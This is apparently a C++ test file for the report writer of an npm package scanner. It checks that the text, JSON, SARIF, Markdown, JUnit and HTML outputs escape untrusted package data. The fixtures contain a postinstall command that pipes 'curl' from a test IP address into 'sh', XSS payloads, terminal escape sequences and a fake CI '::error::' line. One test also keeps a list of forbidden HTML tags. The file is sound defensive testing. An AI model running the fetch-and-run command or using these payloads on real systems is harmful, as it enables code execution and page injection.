#include "report/report.h"

#include <gtest/gtest.h>

#include "base/golden.h"
#include "base/text.h"
#include "report/diagnostics.h"
#include "report/escape.h"
#include "report/explain.h"
#include "report/facts_report.h"
#include "report/inventory_report.h"
#include "report/progress.h"
#include "report/story.h"

namespace report {
namespace {

Package MakePackage(std::string_view name, std::string_view version, std::uint32_t line) {
  Package package;
  package.name = PackageName::Parse(name);
  package.folder_name = std::string(name);
  package.version = std::string(version);
  package.path = "node_modules/" + std::string(name);
  package.origin = Origin::kRegistry;
  package.integrity = Integrity::Of(AsBytes(name));
  package.line = line;
  return package;
}

Fact MakeFact(FactKind kind, std::string_view file, Position position, std::string_view snippet) {
  Fact fact{.kind = kind, .phase = Phase::kInstall};
  fact.evidence.file = Untrusted(file);
  fact.evidence.position = position;
  fact.evidence.snippet = Untrusted(snippet);
  fact.values = {{.key = "script", .text = Untrusted("postinstall")}};
  return fact;
}

/// A project with one blocked, one warned, one suppressed and two quiet findings, whose foreign
/// text tries to speak to the terminal, to Markdown, to XML and to a CI runner.
Assessment Hostile() {
  Assessment assessment;
  assessment.subject = "examples/shop";
  Inventory& inventory = assessment.inventory;
  inventory.lockfile_kind = LockfileKind::kPackageLock;
  inventory.lockfile_version = 3;
  inventory.lockfile = "package-lock.json";
  Package root;
  root.name = PackageName::Parse("shop");
  root.version = "1.0.0";
  root.origin = Origin::kRoot;
  inventory.packages = {root, MakePackage("@acme/core", "1.2.3", 20),
                        MakePackage("evil]](x)", "1.0.0<script>", 31),
                        MakePackage("quiet", "2.0.0", 44)};
  inventory.packages[3].dev = true;
  inventory.packages[2].has_install_script = true;
  inventory.packages[3].platforms = {
      .os = {Untrusted("win32")}, .cpu = {Untrusted("!\x1b[0m")}, .libc = {}};
  inventory.diagnostics.push_back({.level = Diagnostic::Level::kWarning,
                                   .code = "L014",
                                   .message = "package `quiet` has no integrity",
                                   .file = "package-lock.json",
                                   .position = {44, 5},
                                   .line_text = "    \"node_modules/quiet\": {",
                                   .width = 22,
                                   .help = "run `npm install --package-lock-only`"});

  Finding download{.rule = "script-download-run",
                   .title = "an install script downloads a program and runs it",
                   .severity = Severity::kCritical,
                   .confidence = Confidence::kHigh,
                   .status = CardStatus::kStable,
                   .phase = Phase::kInstall};
  download.clauses = {"script.download-run{how: pipe}"};
  download.changes = {
      {.from = Severity::kHigh, .to = Severity::kCritical, .reason = "runs during npm install"}};
  download.facts = {MakeFact(FactKind::kScriptDownloadRun, "package.json", {12, 18},
                             "curl http://192.0.2.1/`x`|sh\n::error::\x1b[2Jowned \xE2\x80\xAE")};
  download.facts[0].evidence.decoded = Untrusted("<img src=x onerror=alert(1)> ]]> @everyone");
  download.facts[0].evidence.steps = {{.file = Untrusted("package.json"),
                                       .position = {12, 18},
                                       .what = "postinstall starts a shell",
                                       .snippet = Untrusted("sh")},
                                      {.file = Untrusted("setup.cjs"),
                                       .position = {1, 1},
                                       .what = "which reads the answer",
                                       .snippet = Untrusted("x")}};
  Finding shadow{.rule = "bin-shadows-command",
                 .title = "a command of the package hides a system command",
                 .severity = Severity::kHigh,
                 .confidence = Confidence::kMedium,
                 .status = CardStatus::kStable};
  shadow.facts = {MakeFact(FactKind::kManifestBinShadow, "package.json", {3, 5}, "")};
  shadow.facts_left_out = 2;
  Finding quiet{.rule = "native-binary",
                .title = "native code is shipped",
                .severity = Severity::kLow,
                .confidence = Confidence::kHigh,
                .status = CardStatus::kStable};
  quiet.facts = {MakeFact(FactKind::kFileBinary, "build/x.node", {}, "")};

  const Verdict block{.action = Action::kBlock,
                      .line = "block severity >= critical, confidence >= high",
                      .rule = "script-download-run"};
  const Verdict warn{.action = Action::kWarn,
                     .line = "warn severity >= high",
                     .origin = {.file = "sallyport.toml", .line = 7},
                     .rule = "bin-shadows-command"};
  const Suppression accepted{.rule = "bin-shadows-command",
                             .purl = "pkg:npm/quiet",
                             .reason = "looked at on 2026-06-20",
                             .owner = "security@shop.example",
                             .expires = ParseTime("2027-01-01")};
  assessment.findings = {
      {.finding = download, .package = PackageIndex{2}, .verdict = block},
      {.finding = shadow, .package = PackageIndex{1}, .verdict = warn},
      {.finding = shadow,
       .package = PackageIndex{3},
       .verdict = {.line = "allow"},
       .suppressed_by = accepted},
      {.finding = quiet, .package = PackageIndex{1}, .verdict = {.line = "allow"}},
      {.finding = quiet, .package = std::nullopt, .verdict = {.line = "allow"}}};
  for (std::uint32_t i = 1; i < 4; ++i) {
    assessment.packages.push_back({.package = PackageIndex{i},
                                   .source = ArtifactSource::kCache,
                                   .integrity = inventory.packages[i].integrity,
                                   .verdict = {.line = "no finding"},
                                   .files = i,
                                   .bytes = i * 1000});
  }
  assessment.packages[1].capabilities = {
      {.name = "network",
       .does = "speaks to the network",
       .phase = Phase::kInstall,
       .count = 2,
       .examples = {Untrusted("192.0.2.1"), Untrusted("<b onload=x>\x1b[2J")}},
      {.name = "network", .does = "speaks to the network", .phase = Phase::kCall, .count = 1},
      {.name = "processes",
       .does = "starts programs",
       .phase = Phase::kInstall,
       .count = 1,
       .examples = {Untrusted("curl")}}};
  assessment.excerpts = {
      {.package = PackageIndex{2},
       .file = Untrusted("package.json"),
       .first_line = 11,
       .lines = {
           Untrusted("  \"scripts\": {"),
           Untrusted(
               "    \"postinstall\": \"curl http://192.0.2.1/`x`|sh </pre><script>alert(1)\""),
           Untrusted("  \xE2\x80\xAE}")}}};
  assessment.packages[1].verdict = block;
  assessment.packages[0].verdict = warn;
  assessment.not_analysed = {
      {.package = PackageIndex{2},
       .file = Untrusted("a\x1b]0;b.js"),
       .reason = "larger than the limit of 512.0 MB",
       .in_install_path = true},
      {.package = std::nullopt, .file = Untrusted(), .reason = "no tarball could be had"}};
  assessment.other_platform = {
      {.package = PackageIndex{3}, .reason = "made for os `win32`, cpu `<b>arm64`"}};
  assessment.verdict = block;
  assessment.stats = {.packages = 3,
                      .packages_from_store = 1,
                      .files = 6,
                      .bytes = 6000,
                      .seconds = 0.25,
                      .peak_memory_bytes = 12'000'000};
  return assessment;
}

std::vector<RuleCard> Cards() {
  RuleCard card;
  card.id = "script-download-run";
  card.title = "an install script downloads a program and runs it";
  card.severity = Severity::kHigh;
  card.confidence = Confidence::kHigh;
  card.attack = {"T1195.002"};
  card.cwe = {"CWE-506"};
  card.finds = "A lifecycle script that fetches something and runs it.";
  card.matters = "Whoever owns the host owns the machine.";
  card.to_do =
      "Do not install it. If it was installed, treat every\ncredential of that machine as "
      "exposed.\n\nThen look for what it left.";
  return {card};
}

struct GoldenCase {
  Format format;
  TextOptions options;
  const char* file;
};

class ReportGolden : public testing::TestWithParam<GoldenCase> {};

TEST_P(ReportGolden, IsTheWholeExpectedText) {
  const auto& [format, options, file] = GetParam();
  const std::string written = Write(Hostile(), Cards(), format, options);
  ExpectGolden(written, std::string("tests/golden/report/") + file);
  EXPECT_EQ(written, Write(Hostile(), Cards(), format, options));
  const bool escape_byte = written.find('\x1b') != std::string::npos;
  EXPECT_EQ(escape_byte, options.color);
  EXPECT_EQ(written.find("\xE2\x80\xAE"), std::string::npos) << "a bidi control came through";
  EXPECT_EQ(written.find("\n::error::"), std::string::npos) << "a CI runner would obey this line";
}

INSTANTIATE_TEST_SUITE_P(
    All, ReportGolden,
    testing::Values(GoldenCase{Format::kText, {}, "hostile.txt"},
                    GoldenCase{
                        Format::kText, {.width = 60, .verbose = true}, "hostile-verbose-60.txt"},
                    GoldenCase{Format::kText, {.color = true}, "hostile-color.txt"},
                    GoldenCase{Format::kJson, {}, "hostile.json"},
                    GoldenCase{Format::kSarif, {}, "hostile.sarif"},
                    GoldenCase{Format::kMarkdown, {}, "hostile.md"},
                    GoldenCase{Format::kJunit, {}, "hostile.xml"},
                    GoldenCase{Format::kHtml, {}, "hostile.html"}));

TEST(TextReport, FitsTheTerminal) {
  for (const unsigned width : {60U, 80U, 120U}) {
    const std::string text =
        WriteText(Hostile(), Cards(), {.width = width, .color = true, .verbose = true});
    for (const std::string_view line : Split(text, '\n'))
      EXPECT_LE(DisplayWidth(line), width) << line;
  }
}

TEST(TextReport, ShowsTheEndsOfALongChain) {
  Assessment assessment = Hostile();
  auto& steps = assessment.findings[0].finding.facts[0].evidence.steps;
  steps.clear();
  for (int i = 1; i <= 8; ++i)
    steps.push_back({.file = Untrusted("a.js"), .what = "step " + std::to_string(i) + "."});
  const auto count = [](const std::string& text) {
    std::size_t found = 0;
    for (std::size_t at = text.find(": step "); at != std::string::npos;
         at = text.find(": step ", at + 1))
      ++found;
    return found;
  };
  EXPECT_EQ(count(WriteText(assessment, Cards(), {})), 8U);
  for (int i = 9; i <= 13; ++i)
    steps.push_back({.file = Untrusted("a.js"), .what = "step " + std::to_string(i) + "."});
  const std::string text = WriteText(assessment, Cards(), {});
  EXPECT_EQ(count(text), 7U);
  EXPECT_NE(text.find("step 4.\n        … 6 more steps (-v shows them)\n"), std::string::npos)
      << text;
  EXPECT_NE(text.find("a.js: step 11.\n"), std::string::npos);
  EXPECT_EQ(count(WriteText(assessment, Cards(), {.verbose = true})), 13U);
}

TEST(OnOneLine, MakesRunsOfBlanksOneSpace) {
  EXPECT_EQ(OnOneLine(Untrusted("a\r\n\t\t\"b\",\n  c \x1b[0m")).View(), "a \"b\", c \x1b[0m");
  EXPECT_EQ(OnOneLine(Untrusted("")).View(), "");
}

TEST(Hang, PutsFurtherLinesUnderTheFirstWord) {
  EXPECT_EQ(Hang("help:", "one two three four five", 2, {.width = 28}),
            "  help: one two three four\n        five");
  EXPECT_EQ(Hang("help:", "", 2, {.width = 28}), "  help: ");
}

TEST(WrapParts, BreaksBetweenPartsOnly) {
  const std::vector<std::string> parts = {"high", "confidence medium", "rule"};
  EXPECT_EQ(WrapParts(parts, 2, {.width = 40}), "  high · confidence medium · rule");
  EXPECT_EQ(WrapParts(parts, 2, {.width = 30}), "  high · confidence medium ·\n  rule");
  EXPECT_EQ(WrapParts({}, 2, {.width = 30}), "");
}

TEST(WrapPath, BreaksAfterSlashes) {
  EXPECT_EQ(WrapPath("node_modules/a/b.js:1:2", 4, {.width = 40}), "node_modules/a/b.js:1:2");
  EXPECT_EQ(WrapPath("node_modules/a/b.js:1:2", 4, {.width = 20}), "node_modules/a/\n    b.js:1:2");
  EXPECT_EQ(WrapPath("averylongnameofafile.js", 4, {.width = 20}), "averylongnameofafile.js");
}

TEST(Html, LoadsLinksAndRunsNothing) {
  const std::string page = WriteHtml(Hostile(), Cards());
  for (const std::string_view forbidden :
       {"<script", "<link", "<img", "<iframe", "<object", "<embed", "<form",
        "src=", "href=", "url(", "@import", "javascript:", "onload=", "onerror="}) {
    EXPECT_EQ(page.find(forbidden), std::string::npos) << forbidden;
  }
  EXPECT_NE(page.find("default-src 'none'"), std::string::npos);
  EXPECT_NE(page.find("&lt;script&gt;alert(1)"), std::string::npos);
}

TEST(Story, TellsWhatAPackageDoesAndWhen) {
  const Assessment assessment = Hostile();
  EXPECT_EQ(
      StoryOf(assessment.packages[1]),
      (std::vector<std::string>{
          "When it is installed it speaks to the network (192.0.2.1, <b onload=x>\\x1b[2J), and "
          "starts programs (curl).",
          "When it is called it speaks to the network."}));
  EXPECT_EQ(StoryOf(assessment.packages[0]),
            std::vector<std::string>{"Nothing of it was seen to run when it is installed."});
}

TEST(InventoryReport, IsTheWholeExpectedText) {
  Inventory inventory = Hostile().inventory;
  inventory.dependencies.push_back({.from = PackageIndex::kRoot,
                                    .to = PackageIndex{1},
                                    .name = "@acme/core",
                                    .range = Untrusted("^1.0.0"),
                                    .line = 9});
  inventory.dependencies.push_back({.from = PackageIndex{1},
                                    .to = std::nullopt,
                                    .name = "gone",
                                    .range = Untrusted("*\x1b[0m"),
                                    .state = Dependency::State::kMissing,
                                    .line = 25});
  ExpectGolden(InventoryText(inventory, {}), "tests/golden/report/inventory.txt");
  ExpectGolden(InventoryJson(inventory), "tests/golden/report/inventory.json");
}

TEST(FactsReport, IsOneObjectPerLine) {
  const Facts facts = Hostile().findings[0].finding.facts;
  const std::string lines = FactsJsonLines(Untrusted("evil@1.0.0"), facts);
  ExpectGolden(lines, "tests/golden/report/facts.jsonl");
  EXPECT_EQ(std::count(lines.begin(), lines.end(), '\n'), 1);
}

TEST(Why, LeadsFromTheVerdictToThePlace) {
  const DependencyPaths paths = {{PackageIndex{0}, PackageIndex{1}, PackageIndex{2}}};
  ExpectGolden(WhyText(Hostile(), PackageIndex{2}, paths, {}), "tests/golden/report/why.txt");
}

TEST(Explain, ShowsTheWholeCard) {
  ExpectGolden(ExplainText(Cards().front(), {.width = 60}), "tests/golden/report/explain.txt");
  EXPECT_EQ(RuleListText(Cards()),
            "script-download-run  high      an install script downloads a program and runs it "
            "(preview)\n");
}

TEST(ProgressLine, TellsRateAndRemainingTimeOnceItCan) {
  EXPECT_EQ(ProgressLine({.what = "vetting", .done = 1, .total = 4}, {}),
            "vetting ━━━━━━────────────────── 1/4");
  EXPECT_EQ(ProgressLine({.what = "vetting",
                          .done = 1'500,
                          .total = 6'000,
                          .bytes = 10'000'000,
                          .elapsed = std::chrono::seconds(2)},
                         {}),
            "vetting ━━━━━━────────────────── 1,500/6,000 · 5.0 MB/s · 6 s left");
  EXPECT_EQ(ProgressLine({.what = "vetting", .done = 1'500, .total = 6'000}, {.width = 20}),
            "vetting 1500/6000");
  EXPECT_EQ(ProgressLine({.what = "vetting"}, {}), "vetting ──────────────────────── 0/0");
}

TEST(Escape, NothingForeignFormatsSpeaksOrLinks) {
  EXPECT_EQ(ForTerminal(Untrusted("a\x1b[31mb\r\n\x07")), "a\\x1b[31mb\\x0d\\x0a\\x07");
  EXPECT_EQ(ForMarkdown(Untrusted("[x](y) *b* <i> @team `c`")),
            "\\[x\\]\\(y\\) \\*b\\* &lt;i&gt; &#64;team \\`c\\`");
  EXPECT_EQ(ForMarkdownCode(Untrusted("a``b")), "```a``b```");
  EXPECT_EQ(ForMarkdownCode(Untrusted("`")), "`` ` ``");
  EXPECT_EQ(ForHtml(Untrusted("<a href=`x`>")), "&lt;a href&#61;&#96;x&#96;&gt;");
  EXPECT_EQ(ForHtmlLines(Untrusted("a\tb\x07\r\n<c>\nd\ne"), 3), "a\tb\\x07\n&lt;c&gt;\nd\n…");
  EXPECT_EQ(ForXml(Untrusted("<a href=\"x\">&'")), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
}

TEST(Style, WrapsAndCutsByColumns) {
  EXPECT_EQ(DisplayWidth("\033[1mab\033[0m漢"), 4U);
  EXPECT_EQ(CutToWidth("漢字漢字", 5), "漢字…");
  EXPECT_EQ(CutToWidth("short", 5), "short");
  EXPECT_EQ(Wrap("one two three four five six", 2, {.width = 22}),
            "  one two three four\n  five six");
}

TEST(DiagnosticText, PutsTheCaretUnderAPlaceFarToTheRight) {
  const Diagnostic diagnostic{
      .level = Diagnostic::Level::kError,
      .code = "L003",
      .message = "lockfile version `4` is newer than this program reads (1 to 3)",
      .file = "package-lock.json",
      .position = {4, 122},
      .line_text = std::string(121, ' ') + "4,",
      .width = 1,
      .help = "update the program"};
  ExpectGolden(DiagnosticText(diagnostic, {}), "tests/golden/report/diagnostic.txt");
}

}  // namespace
}  // namespace report
